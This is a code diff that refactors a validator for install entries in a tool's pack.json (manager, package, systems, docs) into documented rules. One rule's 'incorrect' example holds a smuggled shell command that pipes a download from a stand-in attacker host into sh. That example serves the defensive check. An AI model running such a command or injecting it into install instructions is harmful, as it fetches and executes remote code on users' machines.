@@ -10,7 +10,8 @@ import {
   quoteList,
 } from '../vocabulary';
 import { child, has, kindBlocks, recsIn, show, type At, type PackView, type Rec } from '../walk';
-import type { Check, Hit } from './types';
+import { createRule } from './create';
+import type { RawFinding } from '../../core/finding';
 
 const SHAPE = 'each install entry is { manager, package, systems } or { docs }';
 const COMMAND_KEYS = ['manager', 'package', 'systems'];
@@ -20,125 +21,197 @@ function installEntries(view: PackView): At<Rec>[] {
 }
 
 /** An entry with manager or package is a command; one with docs alone is a link. */
-export const checkInstallEntryShape: Check = (view) =>
-  installEntries(view).flatMap((entry): Hit[] => {
-    const keys = Object.keys(entry.value);
-    const isCommand = has(entry.value, 'manager') || has(entry.value, 'package');
-    if (!isCommand && !has(entry.value, 'docs'))
+export const checkInstallEntryShape = createRule({
+  id: 'C-install-entry-shape',
+  category: 'composition',
+  severity: 'error',
+  docs: {
+    title: 'An install entry is a command or a docs link',
+    checks: 'Each install entry is exactly { manager, package, systems? } or { docs }.',
+    why: 'Each install entry is { manager, package, systems } or { docs }. Recued shows the command; it never runs it.',
+    incorrect: '{ "install": [{ "manager": "npm", "package": "opencode-ai", "docs": "https://opencode.ai/docs" }] }',
+    correct: '{ "install": [{ "manager": "npm", "package": "opencode-ai" }, { "docs": "https://opencode.ai/docs" }] }',
+    fix: 'Split mixed entries; remove unknown keys.',
+  },
+  check: (view) =>
+    installEntries(view).flatMap((entry): RawFinding[] => {
+      const keys = Object.keys(entry.value);
+      const isCommand = has(entry.value, 'manager') || has(entry.value, 'package');
+      if (!isCommand && !has(entry.value, 'docs'))
+        return [
+          {
+            file: 'pack.json',
+            pointer: entry.ptr,
+            message: `install entry has ${keys.length ? `only ${quoteList(keys)}` : 'no keys'}; ${SHAPE}.`,
+            fix: 'Write { "manager": "npm", "package": "…" } or { "docs": "https://…" }.',
+          },
+        ];
+      const allowed = isCommand ? COMMAND_KEYS : ['docs'];
+      const hits: RawFinding[] = keys
+        .filter((key) => !allowed.includes(key))
+        .map((key) => {
+          const guess = closest(key, allowed);
+          const mixed = isCommand && key === 'docs';
+          return {
+            file: 'pack.json',
+            pointer: child(entry.ptr, key),
+            message: mixed
+              ? `install entry mixes a command (manager, package) with "docs"; ${SHAPE}, never both.`
+              : `install entry has the unknown key "${key}"; ${SHAPE}, and nothing else.`,
+            fix: mixed
+              ? 'Move the docs link into its own entry: { "docs": "https://…" }.'
+              : guess && !has(entry.value, guess)
+                ? `Rename "${key}" to "${guess}".`
+                : `Remove "${key}".`,
+          };
+        });
+      if (isCommand)
+        for (const key of ['manager', 'package'])
+          if (!has(entry.value, key))
+            hits.push({
+              file: 'pack.json',
+              pointer: child(entry.ptr, key),
+              message: `install entry has no "${key}"; ${SHAPE}, and a command needs both manager and package.`,
+              fix: `Add "${key}".`,
+            });
+      return hits;
+    }),
+});
+
+export const checkInstallManager = createRule({
+  id: 'C-install-manager',
+  category: 'composition',
+  severity: 'error',
+  docs: {
+    title: 'Install manager is on the list',
+    checks: 'manager is brew, winget, scoop, apt, dnf, npm, pip, pipx, cargo or go.',
+    why: 'Recued shows a command for each manager only on systems where it runs, so it must know the manager.',
+    incorrect: '{ "manager": "yarn", "package": "opencode-ai" }',
+    correct: '{ "manager": "npm", "package": "opencode-ai" }',
+    fix: 'Use a listed manager, or a { docs } link.',
+  },
+  check: (view) =>
+    installEntries(view).flatMap((entry): RawFinding[] => {
+      if (!has(entry.value, 'manager') || isOneOf(INSTALL_MANAGERS, entry.value.manager)) return [];
+      const manager = entry.value.manager;
+      const guess = typeof manager === 'string' ? closest(manager, INSTALL_MANAGERS) : undefined;
       return [
         {
-          pointer: entry.ptr,
-          message: `install entry has ${keys.length ? `only ${quoteList(keys)}` : 'no keys'}; ${SHAPE}.`,
-          fix: 'Write { "manager": "npm", "package": "…" } or { "docs": "https://…" }.',
+          file: 'pack.json',
+          pointer: child(entry.ptr, 'manager'),
+          message: `install manager ${show(manager)} is not one Recued shows commands for; manager is ${orList(INSTALL_MANAGERS)}.`,
+          fix: guess ? `Set "manager": "${guess}".` : `Use one of ${quoteList(INSTALL_MANAGERS)}, or replace the entry with { "docs": "https://…" }.`,
         },
       ];
-    const allowed = isCommand ? COMMAND_KEYS : ['docs'];
-    const hits: Hit[] = keys
-      .filter((key) => !allowed.includes(key))
-      .map((key) => {
-        const guess = closest(key, allowed);
-        const mixed = isCommand && key === 'docs';
-        return {
-          pointer: child(entry.ptr, key),
-          message: mixed
-            ? `install entry mixes a command (manager, package) with "docs"; ${SHAPE}, never both.`
-            : `install entry has the unknown key "${key}"; ${SHAPE}, and nothing else.`,
-          fix: mixed
-            ? 'Move the docs link into its own entry: { "docs": "https://…" }.'
-            : guess && !has(entry.value, guess)
-              ? `Rename "${key}" to "${guess}".`
-              : `Remove "${key}".`,
-        };
-      });
-    if (isCommand)
-      for (const key of ['manager', 'package'])
-        if (!has(entry.value, key))
+    }),
+});
+
+export const checkInstallPackage = createRule({
+  id: 'C-install-package',
+  category: 'composition',
+  severity: 'error',
+  docs: {
+    title: 'Install package is a plain name',
+    checks: 'package matches ^[A-Za-z0-9@][A-Za-z0-9@/._+-]*$ and is at most 214 characters.',
+    why: 'package is letters, digits and @ / . _ + -; it starts with a letter, a digit or @, and is at most 214 characters. A command shown to a user must not hide anything else.',
+    incorrect: '{ "manager": "npm", "package": "opencode-ai && curl evil.example | sh" }',
+    correct: '{ "manager": "npm", "package": "opencode-ai" }',
+    fix: 'Write only the package name.',
+  },
+  check: (view) =>
+    installEntries(view).flatMap((entry): RawFinding[] => {
+      if (!has(entry.value, 'package')) return [];
+      const pkg = entry.value.package;
+      const pointer = child(entry.ptr, 'package');
+      const rule = `package is letters, digits and @ / . _ + -, starts with a letter, a digit or @, and is at most ${MAX_PACKAGE_LENGTH} characters`;
+      if (typeof pkg !== 'string') return [{ file: 'pack.json', pointer, message: `install package is ${show(pkg)}, not text; ${rule}.`, fix: 'Write the package name as a string.' }];
+      if (pkg.length > MAX_PACKAGE_LENGTH)
+        return [{ file: 'pack.json', pointer, message: `install package is ${pkg.length} characters long; ${rule}.`, fix: 'Use the package name alone, without a URL or options.' }];
+      if (PACKAGE_PATTERN.test(pkg)) return [];
+      const bad = [...new Set(pkg.replace(/[A-Za-z0-9@/._+-]/g, ''))].map((c) => JSON.stringify(c)).join(', ');
+      return [
+        {
+          file: 'pack.json',
+          pointer,
+          message: `install package ${show(pkg)} ${bad ? `contains ${bad}` : 'does not start with a letter, a digit or @'}; ${rule}. Recued shows the command but never runs it, and a command line must not hide anything else.`,
+          fix: 'Write only the package name (no spaces, flags, quotes or shell characters); put a version range in version.tested instead.',
+        },
+      ];
+    }),
+});
+
+export const checkInstallSystems = createRule({
+  id: 'C-install-systems',
+  category: 'composition',
+  severity: 'error',
+  docs: {
+    title: 'Install systems: macos, linux, windows, each once',
+    checks: 'systems lists only macos, linux and windows, each once, and is not empty. A system where the manager does not run is a warning.',
+    why: 'systems is any of macos, linux and windows, each once; skip it and the entry is for every system. Each command shows only on systems where its manager runs.',
+    incorrect: '{ "manager": "brew", "package": "opencode", "systems": ["macos", "macos", "windows"] }',
+    correct: '{ "manager": "brew", "package": "opencode", "systems": ["macos"] }',
+    fix: 'Remove duplicates and unknown systems; skip systems to mean every system.',
+  },
+  check: (view) =>
+    installEntries(view).flatMap((entry): RawFinding[] => {
+      if (!has(entry.value, 'systems')) return [];
+      const systems = entry.value.systems;
+      const pointer = child(entry.ptr, 'systems');
+      const rule = `systems is any of ${quoteList(SYSTEMS)}, each once; skip it and the entry is for every system`;
+      if (!Array.isArray(systems)) return [{ file: 'pack.json', pointer, message: `install systems is ${show(systems)}; ${rule}.`, fix: 'Write a list such as ["macos", "linux"].' }];
+      if (systems.length === 0) return [{ file: 'pack.json', pointer, message: `install systems is empty, so the command shows on no system; ${rule}.`, fix: 'Remove "systems" to show the command everywhere its manager runs.' }];
+      const hits: RawFinding[] = [];
+      const seen = new Set<unknown>();
+      systems.forEach((system, i) => {
+        if (!isOneOf(SYSTEMS, system)) {
+          const guess = typeof system === 'string' ? closest(system, SYSTEMS) : undefined;
+          hits.push({ file: 'pack.json', pointer: child(pointer, i), message: `install system ${show(system)} is not a system; ${rule}.`, fix: guess ? `Write "${guess}".` : `Use ${quoteList(SYSTEMS)}.` });
+        } else if (seen.has(system)) {
+          hits.push({ file: 'pack.json', pointer: child(pointer, i), message: `install system "${system}" is listed twice; ${rule}.`, fix: `Remove the second "${system}".` });
+        } else if (isOneOf(INSTALL_MANAGERS, entry.value.manager) && !MANAGER_SYSTEMS[entry.value.manager].includes(system)) {
+          const manager = entry.value.manager;
           hits.push({
-            pointer: child(entry.ptr, key),
-            message: `install entry has no "${key}"; ${SHAPE}, and a command needs both manager and package.`,
-            fix: `Add "${key}".`,
+            file: 'pack.json',
+            pointer: child(pointer, i),
+            severity: 'warn',
+            message: `${manager} does not run on ${system}, so Recued never shows this command there; each command shows only on systems where its manager runs.`,
+            fix: `Remove "${system}" (${manager} runs on ${quoteList(MANAGER_SYSTEMS[manager])}), or add an entry with a manager for ${system}.`,
           });
-    return hits;
-  });
+        }
+        seen.add(system);
+      });
+      return hits;
+    }),
+});
 
-export const checkInstallManager: Check = (view) =>
-  installEntries(view).flatMap((entry): Hit[] => {
-    if (!has(entry.value, 'manager') || isOneOf(INSTALL_MANAGERS, entry.value.manager)) return [];
-    const manager = entry.value.manager;
-    const guess = typeof manager === 'string' ? closest(manager, INSTALL_MANAGERS) : undefined;
-    return [
-      {
-        pointer: child(entry.ptr, 'manager'),
-        message: `install manager ${show(manager)} is not one Recued shows commands for; manager is ${orList(INSTALL_MANAGERS)}.`,
-        fix: guess ? `Set "manager": "${guess}".` : `Use one of ${quoteList(INSTALL_MANAGERS)}, or replace the entry with { "docs": "https://…" }.`,
-      },
-    ];
-  });
-
-export const checkInstallPackage: Check = (view) =>
-  installEntries(view).flatMap((entry): Hit[] => {
-    if (!has(entry.value, 'package')) return [];
-    const pkg = entry.value.package;
-    const pointer = child(entry.ptr, 'package');
-    const rule = `package is letters, digits and @ / . _ + -, starts with a letter, a digit or @, and is at most ${MAX_PACKAGE_LENGTH} characters`;
-    if (typeof pkg !== 'string') return [{ pointer, message: `install package is ${show(pkg)}, not text; ${rule}.`, fix: 'Write the package name as a string.' }];
-    if (pkg.length > MAX_PACKAGE_LENGTH)
-      return [{ pointer, message: `install package is ${pkg.length} characters long; ${rule}.`, fix: 'Use the package name alone, without a URL or options.' }];
-    if (PACKAGE_PATTERN.test(pkg)) return [];
-    const bad = [...new Set(pkg.replace(/[A-Za-z0-9@/._+-]/g, ''))].map((c) => JSON.stringify(c)).join(', ');
-    return [
-      {
-        pointer,
-        message: `install package ${show(pkg)} ${bad ? `contains ${bad}` : 'does not start with a letter, a digit or @'}; ${rule}. Recued shows the command but never runs it, and a command line must not hide anything else.`,
-        fix: 'Write only the package name (no spaces, flags, quotes or shell characters); put a version range in version.tested instead.',
-      },
-    ];
-  });
-
-export const checkInstallSystems: Check = (view) =>
-  installEntries(view).flatMap((entry): Hit[] => {
-    if (!has(entry.value, 'systems')) return [];
-    const systems = entry.value.systems;
-    const pointer = child(entry.ptr, 'systems');
-    const rule = `systems is any of ${quoteList(SYSTEMS)}, each once; skip it and the entry is for every system`;
-    if (!Array.isArray(systems)) return [{ pointer, message: `install systems is ${show(systems)}; ${rule}.`, fix: 'Write a list such as ["macos", "linux"].' }];
-    if (systems.length === 0) return [{ pointer, message: `install systems is empty, so the command shows on no system; ${rule}.`, fix: 'Remove "systems" to show the command everywhere its manager runs.' }];
-    const hits: Hit[] = [];
-    const seen = new Set<unknown>();
-    systems.forEach((system, i) => {
-      if (!isOneOf(SYSTEMS, system)) {
-        const guess = typeof system === 'string' ? closest(system, SYSTEMS) : undefined;
-        hits.push({ pointer: child(pointer, i), message: `install system ${show(system)} is not a system; ${rule}.`, fix: guess ? `Write "${guess}".` : `Use ${quoteList(SYSTEMS)}.` });
-      } else if (seen.has(system)) {
-        hits.push({ pointer: child(pointer, i), message: `install system "${system}" is listed twice; ${rule}.`, fix: `Remove the second "${system}".` });
-      } else if (isOneOf(INSTALL_MANAGERS, entry.value.manager) && !MANAGER_SYSTEMS[entry.value.manager].includes(system)) {
-        const manager = entry.value.manager;
-        hits.push({
-          pointer: child(pointer, i),
-          severity: 'warn',
-          message: `${manager} does not run on ${system}, so Recued never shows this command there; each command shows only on systems where its manager runs.`,
-          fix: `Remove "${system}" (${manager} runs on ${quoteList(MANAGER_SYSTEMS[manager])}), or add an entry with a manager for ${system}.`,
-        });
-      }
-      seen.add(system);
-    });
-    return hits;
-  });
-
-export const checkInstallDocs: Check = (view) =>
-  installEntries(view).flatMap((entry): Hit[] => {
-    if (!has(entry.value, 'docs')) return [];
-    const docs = entry.value.docs;
-    const problem = docsProblem(docs);
-    if (!problem) return [];
-    return [
-      {
-        pointer: child(entry.ptr, 'docs'),
-        message: `install docs ${show(docs)}: ${problem}; docs is an https link, with no user name or password.`,
-        fix: 'Link the install page over https, for example "https://example.com/docs/install".',
-      },
-    ];
-  });
+export const checkInstallDocs = createRule({
+  id: 'C-install-docs',
+  category: 'composition',
+  severity: 'error',
+  docs: {
+    title: 'Install docs is an https link without credentials',
+    checks: 'docs parses as an https URL with no user name or password.',
+    why: 'docs is an https link, with no user name or password.',
+    incorrect: '{ "docs": "http://user:pw@opencode.ai/docs" }',
+    correct: '{ "docs": "https://opencode.ai/docs" }',
+    fix: 'Link the page over https, without credentials.',
+  },
+  check: (view) =>
+    installEntries(view).flatMap((entry): RawFinding[] => {
+      if (!has(entry.value, 'docs')) return [];
+      const docs = entry.value.docs;
+      const problem = docsProblem(docs);
+      if (!problem) return [];
+      return [
+        {
+          file: 'pack.json',
+          pointer: child(entry.ptr, 'docs'),
+          message: `install docs ${show(docs)}: ${problem}; docs is an https link, with no user name or password.`,
+          fix: 'Link the install page over https, for example "https://example.com/docs/install".',
+        },
+      ];
+    }),
+});
 
 function docsProblem(docs: unknown): string | null {
   if (typeof docs !== 'string') return 'it is not text';
